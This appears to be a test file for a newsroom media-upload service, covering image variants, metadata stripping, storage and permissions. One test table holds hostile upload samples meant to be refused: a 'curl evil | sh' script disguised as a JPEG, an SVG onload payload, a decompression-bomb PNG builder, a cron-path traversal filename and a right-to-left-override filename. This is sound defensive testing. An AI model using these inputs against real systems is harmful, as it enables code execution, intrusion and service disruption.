import { mkdtemp, readdir, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { crc32 } from "node:zlib";
import S3rver from "s3rver";
import sharp from "sharp";
import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { HTTP_STATUS } from "@/lib/errors";
import { createArticleSchema, updateArticleSchema } from "@/lib/validation/article";
import { mediaQuerySchema, mediaUploadSchema } from "@/lib/validation/media";
import { diskStore } from "@/server/media/disk-store";
import type { MediaSetup } from "@/server/media/media-setup";
import { s3Store } from "@/server/media/s3-store";
import type { MediaStore } from "@/server/media/store";
import { media } from "../schema";
import { withListeningDesk, type Announcements } from "../testing/announcements";
import type { DemoDesk } from "../testing/demo-desk";
import { findPublicStory, findStoryCards } from "../queries/public-stories";
import { publicTags as t } from "@/lib/site/public-tags";
import { transitionSchema } from "@/lib/validation/article";
import { transitionArticle } from "./article-transition";
import { articles } from "../schema";
import { createArticle, updateArticle } from "./article-write";
import { getArticle } from "./article-read";
import { changeMedia, deleteMedia, getMedia, listMedia, replaceMediaFile, uploadMedia, type MediaView } from "./media";

let desk: DemoDesk;
let folder: string;
let s3: S3rver;
let disk: MediaSetup;
let bucket: MediaSetup;
let photo: Uint8Array;

const setup = (store: MediaStore, maxBytes = 20 * 1024 * 1024): MediaSetup => ({ store, maxBytes, maxPixels: 50_000_000, publicBase: "/media" });
const described = (fields: Record<string, unknown> = {}) => mediaUploadSchema.parse({ credit: "أ ف ب", caption: "متظاهرون في بيروت", ...fields });
const SECRET = "Hidden Photographer Home";

/** A camera frame with what a camera writes: the photographer, and where it was taken. */
async function cameraPhoto(width = 2000, height = 1500): Promise<Uint8Array> {
  return sharp({ create: { width, height, channels: 3, background: { r: 180, g: 90, b: 40 } } })
    .jpeg()
    .withExif({
      IFD0: { Artist: SECRET, Copyright: "AFP" },
      IFD3: { GPSLatitudeRef: "N", GPSLatitude: "33/1 53/1 0/1", GPSLongitudeRef: "E", GPSLongitude: "35/1 30/1 0/1" },
    })
    .toBuffer();
}

/** A PNG that declares `width` × `height` in a few dozen bytes: a decompression bomb's header. */
function declaredPng(width: number, height: number): Uint8Array {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, "ascii"), data]);
    const out = Buffer.alloc(8 + data.length + 4);
    out.writeUInt32BE(data.length, 0);
    body.copy(out, 4);
    out.writeUInt32BE(crc32(body), 8 + data.length);
    return out;
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk("IHDR", ihdr),
    chunk("IDAT", Buffer.from([0x78, 0x9c, 0x03, 0, 0, 0, 0, 1])),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

async function filesOnDisk(): Promise<string[]> {
  const found = await readdir(join(folder, "disk"), { recursive: true, withFileTypes: true }).catch(() => []);
  return found.filter((f) => f.isFile()).map((f) => join(f.parentPath, f.name).slice(join(folder, "disk").length + 1));
}

const keyOf = (url: string) => url.replace(/^\/media\//, "");

let announcements: Announcements;
withListeningDesk((made, listening) => {
  [desk, announcements] = [made, listening];
});

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "newsroom-media-service-"));
  s3 = new S3rver({ address: "127.0.0.1", port: 0, directory: join(folder, "s3"), silent: true, configureBuckets: [{ name: "media" }] });
  const { port } = await s3.run();
  disk = setup(diskStore(join(folder, "disk")));
  bucket = setup(
    s3Store({
      bucket: "media",
      region: "us-east-1",
      endpoint: `http://127.0.0.1:${port}`,
      accessKeyId: "S3RVER",
      secretAccessKey: "S3RVER",
      forcePathStyle: true,
    }),
  );
  photo = await cameraPhoto();
});

afterAll(async () => {
  await s3.close();
  await rm(folder, { recursive: true, force: true });
});

describe.each([
  ["on the local disk", () => disk],
  ["in an S3-API server", () => bucket],
] as const)("an upload %s", (_where, chosen) => {
  it("makes AVIF and WebP at every width the picture fills and a 1200 px share image, all without EXIF or GPS; the original is kept", async () => {
    const s = chosen();
    const uploaded = await uploadMedia(desk.db, s, desk.reporter, { file: { name: "بيروت.jpg", bytes: photo }, description: described() });
    if (!uploaded.ok) throw new Error(JSON.stringify(uploaded));
    const image = uploaded.data;
    expect(image).toMatchObject({
      format: "jpeg",
      width: 2000,
      height: 1500,
      credit: "أ ف ب",
      alt: null,
      decorative: false,
      uploadedBy: { id: desk.reporter.id },
    });
    const made = image.variants.map((v) => `${v.format}:${v.width}x${v.height}`);
    for (const width of [320, 480, 640, 800, 1024, 1280, 1600]) {
      expect(made).toContain(`avif:${width}x${width * 0.75}`);
      expect(made).toContain(`webp:${width}x${width * 0.75}`);
    }
    expect(made).toContain("jpeg:1200x900");
    for (const v of image.variants) {
      expect(v.url).toMatch(/^\/media\/v\/[0-9a-f]{32}\.(avif|webp|jpg)$/);
      const bytes = await s.store.get(keyOf(v.url));
      expect(bytes, v.url).not.toBeNull();
      const read = await sharp(bytes!).metadata();
      expect([read.width, read.height, read.exif, read.xmp]).toEqual([v.width, v.height, undefined, undefined]);
      expect(Buffer.from(bytes!).includes(SECRET)).toBe(false);
    }
    const [row] = await desk.db.select().from(media).where(eq(media.id, image.id));
    const original = await s.store.get(row!.originalKey);
    expect(Buffer.from(original!).equals(Buffer.from(photo))).toBe(true);
    expect(row!.originalKey.startsWith("originals/")).toBe(true);
  });
});

describe("bad files are refused with the reason, and nothing is stored", () => {
  it.each([
    ["a script renamed .jpg", "photo.jpg", () => new TextEncoder().encode("#!/bin/sh\ncurl evil | sh\n"), 415, "media_not_an_image"],
    ["an SVG", "logo.jpg", () => new TextEncoder().encode('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 415, "media_svg"],
    ["a GIF", "anim.gif", () => new Uint8Array([...new TextEncoder().encode("GIF89a"), 1, 0, 1, 0, 0, 0, 0, 0x3b]), 415, "media_format_refused"],
    ["an empty file", "empty.jpg", () => new Uint8Array(), 400, "media_empty"],
    ["a decompression bomb", "bomb.png", () => declaredPng(30_000, 30_000), 422, "media_too_many_pixels"],
    ["a truncated JPEG", "half.jpg", () => photo.subarray(0, Math.floor(photo.length / 2)), 422, "media_damaged"],
    ["a name that climbs out of a folder", "../../etc/cron.d/x.jpg", () => photo, 400, "media_filename_refused"],
    ["a name with a right-to-left override", "photo\u202Egpj.exe", () => photo, 400, "media_filename_refused"],
  ] as const)("%s", async (_what, name, bytes, status, reason) => {
    const before = await filesOnDisk();
    const rowsBefore = await desk.db.$count(media);
    const refused = await uploadMedia(desk.db, disk, desk.reporter, { file: { name, bytes: bytes() }, description: described() });
    expect(refused).toMatchObject({ ok: false, reason, fields: { file: { reason } } });
    expect(HTTP_STATUS[(refused as { code: keyof typeof HTTP_STATUS }).code]).toBe(status);
    expect(await filesOnDisk()).toEqual(before);
    expect(await desk.db.$count(media)).toBe(rowsBefore);
  });

  it("a file over the configured limit, naming the limit", async () => {
    const refused = await uploadMedia(desk.db, setup(disk.store, photo.length - 1), desk.reporter, {
      file: { name: "big.jpg", bytes: photo },
      description: described(),
    });
    expect(refused).toMatchObject({ ok: false, code: "too_large", fields: { file: { reason: "media_too_large", params: { limitMb: 0 } } } });
  });
});

async function uploaded(by = desk.reporter, fields: Record<string, unknown> = {}): Promise<MediaView> {
  const result = await uploadMedia(desk.db, disk, by, { file: { name: "photo.jpg", bytes: photo }, description: described(fields) });
  if (!result.ok) throw new Error(JSON.stringify(result));
  return result.data;
}

describe("the library's pictures", () => {
  it("replacing the file keeps the id and swaps the files; the old ones are removed", async () => {
    const image = await uploaded();
    const png = await sharp({ create: { width: 900, height: 600, channels: 4, background: { r: 0, g: 0, b: 255, alpha: 0.5 } } })
      .png()
      .toBuffer();
    const replaced = await replaceMediaFile(desk.db, disk, desk.reporter, image.id, { name: "better.png", bytes: png }, image.version);
    if (!replaced.ok) throw new Error(JSON.stringify(replaced));
    expect(replaced.data).toMatchObject({ id: image.id, version: image.version + 1, format: "png", width: 900, height: 600, filename: "better.png" });
    expect(replaced.data.variants.map((v) => v.width)).not.toContain(1024);
    for (const v of image.variants) expect(await disk.store.get(keyOf(v.url))).toBeNull();
    for (const v of replaced.data.variants) expect(await disk.store.get(keyOf(v.url))).not.toBeNull();
    const stale = await replaceMediaFile(desk.db, disk, desk.reporter, image.id, { name: "again.jpg", bytes: photo }, image.version);
    expect(stale).toMatchObject({ ok: false, code: "conflict", reason: "media_changed" });
    // The same file again, refused as stale and then taken: the picture keeps its own files throughout.
    const sameStale = await replaceMediaFile(desk.db, disk, desk.reporter, image.id, { name: "better.png", bytes: png }, image.version);
    expect(sameStale).toMatchObject({ ok: false, reason: "media_changed" });
    const same = await replaceMediaFile(desk.db, disk, desk.reporter, image.id, { name: "better.png", bytes: png }, replaced.data.version);
    expect(same).toMatchObject({ ok: true });
    for (const v of replaced.data.variants) expect(await disk.store.get(keyOf(v.url))).not.toBeNull();
  });

  it("two pictures made from one file have their own files: deleting or replacing one leaves the other whole", async () => {
    const [first, second, third] = [await uploaded(), await uploaded(), await uploaded()];
    const files = (image: MediaView) => image.variants.map((v) => keyOf(v.url));
    expect(files(first).filter((key) => files(second).includes(key))).toEqual([]);
    expect(await deleteMedia(desk.db, disk, desk.editor, first.id)).toEqual({ ok: true, data: null });
    const other = await sharp({ create: { width: 640, height: 480, channels: 3, background: "#336699" } })
      .png()
      .toBuffer();
    expect(await replaceMediaFile(desk.db, disk, desk.editor, third.id, { name: "other.png", bytes: other }, third.version)).toMatchObject({ ok: true });
    for (const key of files(second)) expect(await disk.store.get(key)).not.toBeNull();
  });

  it("a story's featured picture: a foreign id is refused; while shown, the picture cannot be deleted and says where it is used", async () => {
    const image = await uploaded();
    const story = await createArticle(
      desk.db,
      desk.reporter,
      createArticleSchema.parse({ headline: "قصة مصورة", section: "world", language: "ar", bodyText: "نص القصة." }),
    );
    if (!story.ok) throw new Error(JSON.stringify(story));
    const unknown = await updateArticle(
      desk.db,
      desk.reporter,
      story.data.id,
      updateArticleSchema.parse({ version: 1, featuredImageId: "00000000-0000-4000-8000-000000000000" }),
    );
    expect(unknown).toMatchObject({ ok: false, fields: { featuredImageId: { reason: "media_not_found" } } });
    expect(await updateArticle(desk.db, desk.reporter, story.data.id, updateArticleSchema.parse({ version: 1, featuredImageId: image.id }))).toMatchObject({
      ok: true,
    });
    expect(await getArticle(desk.db, desk.reporter, story.data.id)).toMatchObject({ ok: true, data: { featuredImageId: image.id } });

    expect(await getMedia(desk.db, disk, desk.editor, image.id)).toMatchObject({ ok: true, data: { usedBy: [{ id: story.data.id, headline: "قصة مصورة" }] } });
    const refused = await deleteMedia(desk.db, disk, desk.editor, image.id);
    expect(refused).toMatchObject({ ok: false, code: "conflict", reason: "media_in_use", params: { stories: 1, headline: "قصة مصورة" } });
    expect(await desk.db.$count(media, eq(media.id, image.id))).toBe(1);
    for (const v of image.variants) expect(await disk.store.get(keyOf(v.url))).not.toBeNull();

    expect(await updateArticle(desk.db, desk.reporter, story.data.id, updateArticleSchema.parse({ version: 2, featuredImageId: null }))).toMatchObject({
      ok: true,
    });
    expect(await deleteMedia(desk.db, disk, desk.editor, image.id)).toEqual({ ok: true, data: null });
    expect(await desk.db.$count(media, eq(media.id, image.id))).toBe(0);
    for (const v of image.variants) expect(await disk.store.get(keyOf(v.url))).toBeNull();
  });

  it("a reporter changes only their own pictures; an editor any", async () => {
    const editors = await uploaded(desk.editor);
    expect(await changeMedia(desk.db, disk, desk.reporter, editors.id, { alt: "وصف" })).toMatchObject({
      ok: false,
      code: "forbidden",
      reason: "media_not_yours",
    });
    expect(await deleteMedia(desk.db, disk, desk.reporter, editors.id)).toMatchObject({ ok: false, code: "forbidden" });
    const reporters = await uploaded(desk.reporter);
    const changed = await changeMedia(desk.db, disk, desk.editor, reporters.id, { alt: "رجل يحمل علمًا أمام البرلمان", version: reporters.version });
    expect(changed).toMatchObject({ ok: true, data: { alt: "رجل يحمل علمًا أمام البرلمان", version: reporters.version + 1 } });
  });

  it("is searched by caption, credit and alt text whatever the letter forms, filtered by uploader, in keyset pages", async () => {
    const marked = await uploaded(desk.editor, { caption: "إطفائيون يخمدون حريقًا في الأشرفية", credit: "رويترز" });
    const query = mediaQuerySchema("Africa/Cairo");
    const found = await listMedia(desk.db, disk, desk.reporter, query.parse({ q: "اطفائيون" }));
    expect(found.ok && found.data.items.map((i) => i.id)).toEqual([marked.id]);
    const byCredit = await listMedia(desk.db, disk, desk.reporter, query.parse({ q: "رويترز", uploader: desk.editor.id }));
    expect(byCredit.ok && byCredit.data.items.map((i) => i.id)).toEqual([marked.id]);

    const seen: string[] = [];
    let cursor: string | undefined;
    do {
      const page = await listMedia(desk.db, disk, desk.reporter, query.parse({ limit: "2", ...(cursor ? { cursor } : {}) }));
      if (!page.ok) throw new Error(JSON.stringify(page));
      seen.push(...page.data.items.map((i) => i.id));
      cursor = page.data.nextCursor ?? undefined;
    } while (cursor);
    expect(seen.length).toBe(await desk.db.$count(media));
    expect(new Set(seen).size).toBe(seen.length);
  });

  it("a story cannot go to review with an undescribed picture; published, it shows the picture described; a new caption or file makes exactly its page stale", async () => {
    const image = await uploaded(desk.reporter);
    const created = await createArticle(
      desk.db,
      desk.reporter,
      createArticleSchema.parse({ headline: "الميناء يعمل", section: "world", language: "ar", bodyText: "فقرة." }),
    );
    if (!created.ok) throw new Error(JSON.stringify(created));
    const id = created.data.id;
    expect(await updateArticle(desk.db, desk.reporter, id, updateArticleSchema.parse({ version: 1, featuredImageId: image.id }))).toMatchObject({ ok: true });
    const submit = () => transitionArticle(desk.db, desk.reporter, id, transitionSchema.parse({ to: "in_review", version: 2 }));
    expect(await submit()).toMatchObject({ ok: false, code: "unprocessable", reason: "media_alt_missing", params: { count: 1 } });
    expect((await desk.db.select({ status: articles.status }).from(articles).where(eq(articles.id, id)))[0]!.status).toBe("draft");
    expect(await changeMedia(desk.db, disk, desk.reporter, image.id, { alt: "   " })).toMatchObject({ ok: true });
    expect(await submit()).toMatchObject({ ok: false, reason: "media_alt_missing" });
    expect(await changeMedia(desk.db, disk, desk.reporter, image.id, { alt: "رافعات وحاويات على رصيف الميناء" })).toMatchObject({ ok: true });
    for (const [by, to] of [
      [desk.reporter, "in_review"],
      [desk.editor, "approved"],
      [desk.editor, "published"],
    ] as const) {
      const [row] = await desk.db.select({ version: articles.version }).from(articles).where(eq(articles.id, id));
      expect(await transitionArticle(desk.db, by, id, transitionSchema.parse({ to, version: row!.version }))).toMatchObject({ ok: true });
    }
    const story = await findPublicStory(desk.db, id);
    expect(story?.picture).toMatchObject({ width: 2000, height: 1500, alt: "رافعات وحاويات على رصيف الميناء", credit: "أ ف ب", decorative: false });
    expect(story?.picture?.variants.map((v) => v.key)).toEqual(image.variants.map((v) => keyOf(v.url)));
    // Its card on the home and section pages carries it too.
    const [card] = await findStoryCards(desk.db, [id]);
    expect(card?.picture).toEqual(story?.picture);

    const heard = await announcements.during(() => changeMedia(desk.db, disk, desk.editor, image.id, { caption: "تعليق أدق" }));
    expect(heard.flat()).toContain(t.story(id));
    const unused = await uploaded();
    expect(await announcements.during(() => changeMedia(desk.db, disk, desk.editor, unused.id, { caption: "لا قصة" }))).toEqual([]);
  });

  it("a body places only library pictures; each one placed counts as used, needs describing before review, and reaches readers in reading order", async () => {
    const [first, second] = [await uploaded(desk.reporter), await uploaded(desk.reporter, { alt: "وصف الصورة الثانية" })];
    const foreign = "00000000-0000-4000-8000-000000000000";
    const body = (...ids: string[]) => ({
      type: "doc",
      content: [{ type: "paragraph", content: [{ type: "text", text: "فقرة أولى." }] }, ...ids.map((mediaId) => ({ type: "image", attrs: { mediaId } }))],
    });
    const before = await desk.db.$count(articles);
    const refusedCreate = await createArticle(
      desk.db,
      desk.reporter,
      createArticleSchema.parse({ headline: "صور من الخارج", section: "world", language: "ar", body: body(foreign) }),
    );
    expect(refusedCreate).toMatchObject({ ok: false, code: "invalid", fields: { body: { reason: "body_picture_unknown" } } });
    expect(await desk.db.$count(articles)).toBe(before);

    const created = await createArticle(
      desk.db,
      desk.reporter,
      createArticleSchema.parse({ headline: "صور من الداخل", section: "world", language: "ar", body: body(first.id) }),
    );
    if (!created.ok) throw new Error(JSON.stringify(created));
    const id = created.data.id;
    const refusedUpdate = await updateArticle(desk.db, desk.reporter, id, updateArticleSchema.parse({ version: 1, body: body(first.id, foreign) }));
    expect(refusedUpdate).toMatchObject({ ok: false, fields: { body: { reason: "body_picture_unknown" } } });
    expect(await updateArticle(desk.db, desk.reporter, id, updateArticleSchema.parse({ version: 1, body: body(second.id, first.id) }))).toMatchObject({
      ok: true,
    });

    expect(await getMedia(desk.db, disk, desk.editor, first.id)).toMatchObject({ ok: true, data: { usedBy: [{ id }] } });
    expect(await deleteMedia(desk.db, disk, desk.editor, second.id)).toMatchObject({ ok: false, code: "conflict", reason: "media_in_use" });
    const submit = (version: number) => transitionArticle(desk.db, desk.reporter, id, transitionSchema.parse({ to: "in_review", version }));
    expect(await submit(2)).toMatchObject({ ok: false, reason: "media_alt_missing", params: { count: 1 } });
    expect(await changeMedia(desk.db, disk, desk.reporter, first.id, { decorative: true })).toMatchObject({ ok: true });
    expect(await submit(2)).toMatchObject({ ok: true });
    for (const to of ["approved", "published"] as const) {
      const [row] = await desk.db.select({ version: articles.version }).from(articles).where(eq(articles.id, id));
      expect(await transitionArticle(desk.db, desk.editor, id, transitionSchema.parse({ to, version: row!.version }))).toMatchObject({ ok: true });
    }
    const story = await findPublicStory(desk.db, id);
    expect(story?.picture).toBeNull();
    expect(Object.keys(story?.bodyPictures ?? {})).toEqual([second.id, first.id]);
    expect(story?.bodyPictures[second.id]).toMatchObject({ alt: "وصف الصورة الثانية", credit: "أ ف ب", width: 2000 });
    expect(story?.bodyPictures[first.id]).toMatchObject({ decorative: true });
  });
});
